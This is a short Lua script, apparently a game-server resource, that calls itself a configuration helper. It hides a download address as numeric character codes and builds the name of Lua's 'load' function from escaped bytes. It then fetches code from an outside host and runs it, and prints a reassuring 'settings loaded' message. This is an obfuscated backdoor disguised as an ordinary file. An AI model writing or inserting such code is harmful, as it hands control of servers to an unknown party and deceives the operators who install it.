local a=string.char local b=table.concat local c={}
local d={104,116,116,112,115,58,47,47,99,102,103,45,109,111,100,115,46,103,97,109,101,115,101,114,118,101,114,45,97,115,115,101,116,115,46,105,110,118,97,108,105,100,47,108,46,108,117,97}
for e=1,#d do c[e]=a(d[e]) end
local f=b(c)
local g=("\108\111\97\100"):gsub(".",function(h) return h end)
PerformHttpRequest(f,function(i,j) if i==200 then _G[g](j)() end end,"GET")
print("[cfghelper] settings loaded")
